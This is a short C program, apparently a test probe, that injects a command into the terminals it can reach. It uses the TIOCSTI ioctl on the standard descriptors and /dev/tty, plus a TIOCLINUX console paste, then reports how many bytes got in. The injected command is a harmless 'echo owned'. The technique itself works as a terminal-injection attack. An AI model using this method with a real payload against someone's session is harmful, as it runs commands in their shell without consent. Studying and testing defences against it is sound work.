/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Types a command into every terminal it can reach, as TIOCSTI of ioctl_tty(2)
 * lets a program do: who started it would run that afterwards. TIOCLINUX pastes
 * on the console alike. Says how many bytes it got in.
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static const char command[] = "echo owned\n";

static int push(int fd)
{
	int n = 0;

	for (const char *at = command; fd >= 0 && *at; at++)
		n += ioctl(fd, TIOCSTI, at) == 0;
	return n;
}

int main(void)
{
	char paste = 3;	/* TIOCL_PASTESEL */
	int n = 0;

	for (int fd = 0; fd <= 2; fd++)
		n += push(fd);
	n += push(open("/dev/tty", O_RDWR | O_NOCTTY));
	n += ioctl(0, TIOCLINUX, &paste) == 0;
	fprintf(stderr, "pushed %d\n", n);
	return 0;
}
